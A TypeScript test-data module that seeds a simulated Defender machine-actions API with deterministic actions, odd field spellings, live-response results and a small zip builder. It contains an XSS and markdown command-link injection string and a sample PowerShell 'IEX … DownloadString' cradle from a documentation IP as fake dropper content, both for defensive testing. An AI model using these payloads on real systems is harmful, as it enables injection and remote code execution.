// Deterministic machine actions for the Defender API simulator. The seed covers what the client must
// survive: every status and type (plus an unknown one of each), both spellings of the renamed fields,
// a null device name, an application requestor, markdown/link injection in a comment, live response
// commands, and ages from minutes to ~60 days so a 7-day lookback filters some out.
// SeedOptions switch the field shapes of SPEC §1 on: other enum spellings, `…Utc` times without a zone.
import * as crypto from 'node:crypto';
import * as zlib from 'node:zlib';

/** A stored action: loose on purpose, because real payloads vary in spelling and content. */
export type RawAction = { id: string } & Record<string, unknown>;

export const ANALYST_UPN = 'analyst@contoso.com';
/** The client id of an automation app that requests actions through the API. */
export const AUTOMATION_APP_ID = '7c9f3e21-5b4a-4d8e-9f10-2a6b8c3d4e5f';
export const REQUESTORS = [ANALYST_UPN, 'jane.doe@contoso.com', 'ir-lead@contoso.com', 'soc.tier2@contoso.com', AUTOMATION_APP_ID] as const;
export const DEVICES = [
  'ws-fin-0142.contoso.local',
  'ws-hr-0077.contoso.local',
  'srv-sql-02.contoso.local',
  'lt-dev-1138.contoso.local',
  'srv-web-01.contoso.local',
  'ws-sec-0007.contoso.local',
  'mac-design-04.contoso.local',
] as const;
/** A requestorComment that must be shown as text, never rendered as markdown or HTML. */
export const INJECTION_COMMENT = 'Routine scan [open](command:workbench.action.quit) **bold** <img src=x onerror=alert(1)>';

/** Field-shape toggles of the seed (SPEC §1 "Field shapes"); the default is the canonical shape. */
export interface SeedOptions {
  /**
   * 'variant': statuses and types in the other spellings the service sends, rotating through them row by row
   * (`Canceled`, `In Progress`, `pending`, `Live Response`, `isolate`, `QUEUED`, `collect_file`, …).
   */
  enumSpelling?: 'canonical' | 'variant';
  /**
   * 'zoneless': `…Utc` times without a zone designator (UTC), with 0, 3, 6, 7 or 8 fractional digits and `T`, a space
   * or `t` before the time, row by row.
   */
  timeFormat?: 'ticks' | 'zoneless';
}

const SPELLINGS: Readonly<Record<string, readonly string[]>> = {
  Pending: ['pending', 'PENDING'],
  InProgress: ['In Progress', 'inProgress', 'IN_PROGRESS'],
  Succeeded: ['succeeded', 'SUCCEEDED'],
  Failed: ['failed'],
  TimeOut: ['Timeout', 'Timed Out'],
  Cancelled: ['Canceled', 'canceled', 'CANCELLED'],
  Queued: ['QUEUED', 'queued'],
  LiveResponse: ['Live Response', 'liveResponse'],
  RunAntiVirusScan: ['runAntiVirusScan', 'Run AntiVirus Scan'],
  Isolate: ['isolate', 'ISOLATE'],
  Unisolate: ['UnIsolate', 'unisolate'],
  CollectInvestigationPackage: ['Collect Investigation Package'],
  StopAndQuarantineFile: ['stop_and_quarantine_file'],
  RestrictCodeExecution: ['restrictCodeExecution'],
  UnrestrictCodeExecution: ['Unrestrict Code Execution'],
  Offboard: ['OffBoard'],
  // Live-response command statuses and types (Failed, InProgress and Cancelled above serve them too).
  Completed: ['Completed ', 'completed', 'Completed\u200b'],
  Created: ['created', 'CREATED'],
  RunScript: ['runScript', 'run_script'],
  GetFile: ['getfile', 'Get File'],
  CollectFile: ['collect_file', 'Collect File'],
};

/** What the service compares: `Canceled`, `cancelled` and `CANCELLED` are one status, `In Progress` is `InProgress`. */
export function spellingKey(value: string): string {
  const key = value.replace(/[\s_-]+/g, '').toLowerCase();
  return key === 'canceled' ? 'cancelled' : key === 'timedout' ? 'timeout' : key;
}

function spelled(value: string, index: number, options: SeedOptions): string {
  const variants = options.enumSpelling === 'variant' ? SPELLINGS[value] : undefined;
  return variants ? variants[index % variants.length] : value;
}

const FRACTION_DIGITS = [0, 3, 6, 7, 8];
/** Between date and time: the ISO `T`, and the space and lowercase `t` some serializers write. */
const TIME_SEPARATORS = ['T', ' ', 't'];

function timeText(time: number, index: number, options: SeedOptions): string {
  if (options.timeFormat !== 'zoneless') {
    return isoTicks(time);
  }
  const digits = FRACTION_DIGITS[index % FRACTION_DIGITS.length];
  const [date, clock, millis] = new Date(time).toISOString().replace(/Z$/, '').split(/[T.]/);
  const whole = `${date}${TIME_SEPARATORS[index % TIME_SEPARATORS.length]}${clock}`;
  return digits ? `${whole}.${`${millis}00000`.slice(0, digits)}` : whole;
}

/** The service's date-time format: seven fractional digits ("ticks"). */
export function isoTicks(time: number): string {
  return new Date(time).toISOString().replace(/Z$/, '0000Z');
}

/** A GUID derived from a label, so every run yields the same ids. */
export function stableGuid(label: string): string {
  const hex = crypto.createHash('sha1').update(label).digest('hex');
  return `${hex.slice(0, 8)}-${hex.slice(8, 12)}-4${hex.slice(13, 16)}-a${hex.slice(17, 20)}-${hex.slice(20, 32)}`;
}

/** Defender machine ids are 40 hex characters. */
export function machineIdOf(device: string): string {
  return crypto.createHash('sha1').update(`machine:${device}`).digest('hex');
}

type Command = { type: string; params: Array<{ key: string; value: string }>; commandStatus: string; errors?: string[] };

interface SeedRow {
  status: string;
  type: string;
  scope?: string;
  /** Index into DEVICES; null = a device whose name is not known yet (unless `host` names it). */
  device: number | null;
  /** A device name outside DEVICES. */
  host?: string;
  /** Index into REQUESTORS. */
  requestor: number;
  ageMinutes: number;
  comment?: string;
  /** lastUpdateTimeUtc and externalID, the old spellings. */
  legacyNames?: boolean;
  externalId?: string;
  /** Index into REQUESTORS of who cancelled (Cancelled rows). */
  cancelledBy?: number;
  commands?: Command[];
  errorHResult?: number;
  title?: string;
}

const HOUR = 60;
const DAY = 24 * HOUR;
const getFile: Command = { type: 'GetFile', params: [{ key: 'Path', value: 'C:\\Windows\\Temp\\dropper.ps1' }], commandStatus: 'Completed' };
const runScript = (commandStatus: string, errors: string[] = []): Command => ({
  type: 'RunScript', params: [{ key: 'ScriptName', value: 'collect-triage.ps1' }, { key: 'Args', value: '-Verbose' }], commandStatus, errors,
});

const SEED: readonly SeedRow[] = [
  // Cancellable (Pending / InProgress), mostly recent.
  { status: 'Pending', type: 'Isolate', scope: 'Full', device: 0, requestor: 0, ageMinutes: 5, comment: 'Suspicious PowerShell beaconing, contain until triage' },
  { status: 'Pending', type: 'RunAntiVirusScan', scope: 'Quick', device: 1, requestor: 1, ageMinutes: 12, comment: 'Quick scan after phishing click' },
  { status: 'InProgress', type: 'RunAntiVirusScan', scope: 'Full', device: 2, requestor: 0, ageMinutes: 40, comment: 'Full scan requested by IR' },
  { status: 'Pending', type: 'LiveResponse', device: 3, requestor: 2, ageMinutes: 8, comment: 'Collect triage data', commands: [runScript('Created')], title: 'Live response session' },
  { status: 'InProgress', type: 'LiveResponse', device: 4, requestor: 0, ageMinutes: 25, comment: 'Grab dropper and run triage', commands: [getFile, runScript('InProgress')], title: 'Live response session' },
  { status: 'Pending', type: 'CollectInvestigationPackage', device: 5, requestor: 4, ageMinutes: 3, comment: 'Automated collection by SOAR playbook', externalId: 'soar-incident-88412', legacyNames: true },
  { status: 'InProgress', type: 'StopAndQuarantineFile', device: 0, requestor: 3, ageMinutes: 90, comment: 'Quarantine known-bad loader' },
  { status: 'Pending', type: 'RestrictCodeExecution', device: 6, requestor: 0, ageMinutes: 2 * HOUR, comment: 'Restrict until reimage', legacyNames: true },
  { status: 'Pending', type: 'Isolate', scope: 'Selective', device: null, requestor: 0, ageMinutes: 1, comment: 'Isolate new device from alert' },
  { status: 'Pending', type: 'Offboard', device: 4, requestor: 2, ageMinutes: 30, comment: 'Decommissioning web front end' },
  { status: 'InProgress', type: 'Unisolate', device: 1, requestor: 1, ageMinutes: 15, comment: 'Release after clean scan' },
  { status: 'Pending', type: 'UnrestrictCodeExecution', device: 3, requestor: 4, ageMinutes: 4 * HOUR, comment: 'Automated release' },
  { status: 'Pending', type: 'RunAntiVirusScan', scope: 'Quick', device: 5, requestor: 0, ageMinutes: 20, comment: INJECTION_COMMENT },
  { status: 'Queued', type: 'Isolate', scope: 'Full', device: 2, requestor: 1, ageMinutes: 6, comment: 'Status the client does not know' },
  { status: 'Pending', type: 'CollectFile', device: 0, requestor: 2, ageMinutes: 10, comment: 'Type the client does not know' },
  // Final states within the last week.
  { status: 'Succeeded', type: 'Isolate', scope: 'Full', device: 0, requestor: 0, ageMinutes: 3 * DAY, comment: 'Contain ransomware precursor' },
  { status: 'Succeeded', type: 'Unisolate', device: 0, requestor: 0, ageMinutes: 2 * DAY, comment: 'Release after reimage' },
  { status: 'Succeeded', type: 'RunAntiVirusScan', scope: 'Full', device: 2, requestor: 4, ageMinutes: DAY, comment: 'Nightly automated scan', externalId: 'nightly-2231' },
  { status: 'Succeeded', type: 'LiveResponse', device: 3, requestor: 2, ageMinutes: 5 * HOUR, comment: 'Pull suspicious script', commands: [getFile, runScript('Completed')], title: 'Live response session' },
  { status: 'Succeeded', type: 'CollectInvestigationPackage', device: 1, requestor: 1, ageMinutes: 6 * DAY, comment: 'Package for legal hold' },
  { status: 'Succeeded', type: 'StopAndQuarantineFile', device: 6, requestor: 3, ageMinutes: 4 * DAY, comment: 'Quarantine macro dropper', legacyNames: true },
  { status: 'Failed', type: 'RunAntiVirusScan', scope: 'Quick', device: 5, requestor: 0, ageMinutes: 2 * DAY, comment: 'Scan before patching', errorHResult: -2147024894 },
  { status: 'Failed', type: 'LiveResponse', device: 4, requestor: 2, ageMinutes: DAY, comment: 'Fetch web shell', commands: [{ ...getFile, commandStatus: 'Failed', errors: ['File not found'] }], errorHResult: -2147024893, title: 'Live response session' },
  { status: 'TimeOut', type: 'CollectInvestigationPackage', device: 3, requestor: 4, ageMinutes: 3 * DAY, comment: 'Automated collection', externalId: 'soar-incident-88107', legacyNames: true },
  { status: 'Cancelled', type: 'Isolate', scope: 'Full', device: 2, requestor: 0, ageMinutes: DAY, comment: 'Isolate SQL server', cancelledBy: 0 },
  { status: 'Cancelled', type: 'RunAntiVirusScan', scope: 'Full', device: 0, requestor: 1, ageMinutes: 5 * DAY, comment: 'Full scan during business hours', cancelledBy: 2 },
  { status: 'Cancelled', type: 'LiveResponse', device: 3, requestor: 2, ageMinutes: 2 * DAY, comment: 'Wrong device', commands: [getFile, runScript('Cancelled')], cancelledBy: 2, title: 'Live response session' },
  { status: 'Succeeded', type: 'CollectFile', device: 2, requestor: 0, ageMinutes: DAY + 3 * HOUR, comment: 'Unknown type in a final state' },
  { status: 'TimeOut', type: 'LiveResponse', device: 0, requestor: 0, ageMinutes: 6 * DAY, comment: 'Memory dump', commands: [runScript('Failed', ['Session timed out'])], title: 'Live response session' },
  { status: 'Succeeded', type: 'RestrictCodeExecution', device: 4, requestor: 3, ageMinutes: 26 * HOUR, comment: 'Restrict after web shell', legacyNames: true },
  // Older than a week: the default 7-day lookback leaves these out.
  { status: 'Succeeded', type: 'Unisolate', device: 5, requestor: 1, ageMinutes: 7 * DAY + 2 * HOUR, comment: 'Release workstation' },
  { status: 'Pending', type: 'Isolate', scope: 'Full', device: 3, requestor: 1, ageMinutes: 9 * DAY, comment: 'Stale pending isolation' },
  { status: 'Succeeded', type: 'Offboard', device: 4, requestor: 2, ageMinutes: 10 * DAY, comment: 'Offboard old web node' },
  { status: 'Failed', type: 'Isolate', scope: 'Selective', device: 6, requestor: 1, ageMinutes: 12 * DAY, comment: 'Selective isolation test', errorHResult: -2147467259 },
  { status: 'InProgress', type: 'RunAntiVirusScan', scope: 'Quick', device: 2, requestor: 4, ageMinutes: 14 * DAY, comment: 'Stuck automated scan' },
  { status: 'TimeOut', type: 'RestrictCodeExecution', device: 1, requestor: 3, ageMinutes: 20 * DAY, comment: 'Restrict kiosk' },
  { status: 'Cancelled', type: 'UnrestrictCodeExecution', device: 6, requestor: 4, ageMinutes: 30 * DAY, comment: 'Automated unrestrict', cancelledBy: 3, legacyNames: true },
  { status: 'Failed', type: 'Offboard', device: 5, requestor: 3, ageMinutes: 35 * DAY, comment: 'Offboard retired laptop', errorHResult: -2147024891 },
  { status: 'Succeeded', type: 'RunAntiVirusScan', scope: 'Quick', device: 1, requestor: 0, ageMinutes: 45 * DAY, comment: 'Monthly scan' },
  { status: 'Succeeded', type: 'Isolate', scope: 'Full', device: 4, requestor: 2, ageMinutes: 59 * DAY, comment: 'Contain compromised web node' },
];

const FINAL = new Set(['Succeeded', 'Failed', 'TimeOut', 'Cancelled']);

function buildAction(id: string, row: SeedRow, now: number, index: number, options: SeedOptions): RawAction {
  const time = (t: number): string => timeText(t, index, options);
  const created = now - row.ageMinutes * 60_000;
  // Finished actions took a few minutes; running ones were touched a minute after creation.
  const updated = FINAL.has(row.status) ? created + 7 * 60_000 : row.status === 'InProgress' ? created + 60_000 : created;
  const requestor = REQUESTORS[row.requestor];
  const device = row.host ?? (row.device === null ? null : DEVICES[row.device]);
  const action: RawAction = {
    id,
    type: spelled(row.type, index, options),
    title: row.title ?? null,
    requestor,
    requestorComment: row.comment ?? '',
    status: spelled(row.status, index, options),
    machineId: machineIdOf(device ?? `unnamed-${id}`),
    computerDnsName: device,
    creationDateTimeUtc: time(created),
    cancellationRequestor: row.cancelledBy === undefined ? null : REQUESTORS[row.cancelledBy],
    cancellationComment: row.cancelledBy === undefined ? null : 'Cancelled: requested on the wrong device',
    cancellationDateTimeUtc: row.cancelledBy === undefined ? null : time(updated),
    errorHResult: row.errorHResult ?? 0,
    scope: row.scope ?? null,
    requestSource: requestor === AUTOMATION_APP_ID ? 'PublicApi' : 'Portal',
    relatedFileInfo: row.type === 'StopAndQuarantineFile'
      ? { fileIdentifier: crypto.createHash('sha1').update(`file:${id}`).digest('hex'), fileIdentifierType: 'Sha1' }
      : null,
    troubleshootInfo: null,
  };
  action[row.legacyNames ? 'lastUpdateTimeUtc' : 'lastUpdateDateTimeUtc'] = time(updated);
  action[row.legacyNames ? 'externalID' : 'externalId'] = row.externalId ?? null;
  if (row.commands) {
    action.commands = row.commands.map((command, commandIndex) => {
      const started = command.commandStatus === 'Created' ? null : created + (commandIndex + 1) * 60_000;
      const ended = started === null || command.commandStatus === 'InProgress' ? null : started + 30_000;
      return {
        index: commandIndex,
        startTime: started === null ? null : isoTicks(started),
        endTime: ended === null ? null : isoTicks(ended),
        commandStatus: spelled(command.commandStatus, index + commandIndex, options),
        errors: command.errors ?? [],
        command: { type: spelled(command.type, index + commandIndex, options), params: command.params },
      };
    });
  }
  return action;
}

/** The ~40 seed actions, their times relative to `now`. Same `now` and options, same actions. */
export function seedActions(now: Date, options: SeedOptions = {}): RawAction[] {
  return SEED.map((row, index) => buildAction(stableGuid(`seed-${index}`), row, now.getTime(), index, options));
}

/** The actions created in the `days` days before `now` (ms since the epoch): what a view with that lookback lists. */
export function createdWithin(actions: readonly RawAction[], days: number, now = Date.now()): RawAction[] {
  const since = now - days * 86_400_000;
  return actions.filter((action) => Date.parse(String(action.creationDateTimeUtc)) >= since);
}

const BULK_STATUSES = ['Pending', 'InProgress', 'Succeeded', 'Failed', 'TimeOut', 'Cancelled'];
const BULK_TYPES: Array<[string, string?]> = [
  ['RunAntiVirusScan', 'Quick'], ['RunAntiVirusScan', 'Full'], ['Isolate', 'Full'], ['Isolate', 'Selective'], ['Unisolate'],
  ['CollectInvestigationPackage'], ['RestrictCodeExecution'], ['UnrestrictCodeExecution'], ['StopAndQuarantineFile'], ['Offboard'],
];

/**
 * n valid actions (ids distinct, newest first) spread over the six days before `now`, so all of them
 * fall inside the default 7-day lookback — for paging tests and 10,000-action benchmarks. Their statuses rotate
 * through `statuses` (e.g. ['Succeeded'] for one group of n).
 */
export function bulkActions(n: number, now: Date, options: SeedOptions = {}, statuses: readonly string[] = BULK_STATUSES): RawAction[] {
  const spacing = Math.max(1, Math.floor((6 * DAY * 60_000) / Math.max(n, 1)));
  return Array.from({ length: n }, (_, i) => {
    const [type, scope] = BULK_TYPES[i % BULK_TYPES.length];
    const status = statuses[i % statuses.length];
    const row: SeedRow = {
      status,
      type,
      scope,
      device: i % DEVICES.length,
      requestor: i % REQUESTORS.length,
      ageMinutes: ((i + 1) * spacing) / 60_000,
      comment: `Bulk action ${i}`,
      cancelledBy: status === 'Cancelled' ? 0 : undefined,
    };
    return buildAction(stableGuid(`bulk-${i}`), row, now.getTime(), i, options);
  });
}

/**
 * A host name of 15 characters of typical width: the longest the rows are designed to show whole, up to the age, at
 * the default side bar width (a name of wider letters, such as wks-mumbai-0042, is cut earlier).
 */
export const LONG_HOST = 'ws-finance-0142';

/** Every type the view knows, with each scope it takes. */
export const ROW_KINDS: ReadonlyArray<[string, string?]> = [...BULK_TYPES, ['RunAntiVirusScan'], ['Isolate'], ['LiveResponse']];

/**
 * One Pending action of each of ROW_KINDS on LONG_HOST (in a longer DNS name), 40 to 52 minutes old (a
 * three-character age): the widest rows that the default side bar width must show whole up to the age. Same `now`,
 * same actions.
 */
export function longHostActions(now: Date): RawAction[] {
  return ROW_KINDS.map(([type, scope], i) => buildAction(stableGuid(`long-host-${i}`), {
    status: 'Pending', type, scope, device: null, host: `${LONG_HOST}.corp.contoso.com`,
    requestor: i % REQUESTORS.length, ageMinutes: 40 + i, comment: 'A row at the default side bar width',
  }, now.getTime(), i, {}));
}

/** What the storage host serves for a result: the bytes and their Content-Type. */
export interface ResultContent {
  body: Buffer;
  contentType: string;
}

/**
 * The result of live-response command `index` of `action`, or (index undefined) its investigation package:
 * RunScript → the service's JSON transcript; GetFile → the file's bytes (a PowerShell script saved as UTF-16 with a
 * byte-order mark, so not UTF-8 text); a package → a real zip with a few of the package's folders.
 */
export function resultContent(action: RawAction, index?: number): ResultContent {
  const device = String(action.computerDnsName ?? action.machineId);
  if (index === undefined) {
    return { body: zipOf([
      ['Processes/processes.csv', `Name,Id,Path\r\nexplorer.exe,4120,C:\\Windows\\explorer.exe\r\n`],
      ['Network connections/ActiveNetConnections.txt', `Active connections on ${device}\r\n  TCP 10.0.4.12:49822 52.168.117.170:443 ESTABLISHED\r\n`],
      ['Prefetch files/PrefetchFilesList.txt', 'POWERSHELL.EXE-022A1004.pf\r\n'],
    ]), contentType: 'application/zip' };
  }
  const commands = Array.isArray(action.commands) ? action.commands as Array<{ command?: { type?: string; params?: Array<{ value?: string }> } }> : [];
  const command = commands[index]?.command;
  if (command?.type === 'GetFile') {
    const script = `# ${command.params?.[0]?.value ?? 'file'}\r\nIEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')\r\n`;
    return { body: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(script, 'utf16le')]), contentType: 'application/octet-stream' };
  }
  const transcript = {
    script_name: command?.params?.[0]?.value ?? 'script.ps1',
    exit_code: 0,
    script_output: `Transcript started on ${device}\nProcesses: 142\nAutoruns: 3 unsigned entries\n<b>not markup</b> [link](command:workbench.action.quit)\n`,
    script_errors: '',
  };
  return { body: Buffer.from(JSON.stringify(transcript)), contentType: 'application/json' };
}

/** CRC-32, both sizes (stored: equal) and the name length: the same run of fields in a local and a central header. */
function writeEntry(header: Buffer, at: number, crc: number, size: number, nameLength: number): void {
  header.writeUInt32LE(crc, at);
  header.writeUInt32LE(size, at + 4);
  header.writeUInt32LE(size, at + 8);
  header.writeUInt16LE(nameLength, at + 12);
}

/** A zip (stored, no compression) of `[path, text]` entries: enough for a package a client saves and an unzip reads. */
function zipOf(entries: Array<[string, string]>): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const [name, text] of entries) {
    const data = Buffer.from(text);
    const fileName = Buffer.from(name);
    const crc = zlib.crc32(data);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    writeEntry(local, 14, crc, data.length, fileName.length);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    writeEntry(central, 16, crc, data.length, fileName.length);
    central.writeUInt32LE(offset, 42);
    locals.push(local, fileName, data);
    centrals.push(central, fileName);
    offset += local.length + fileName.length + data.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}
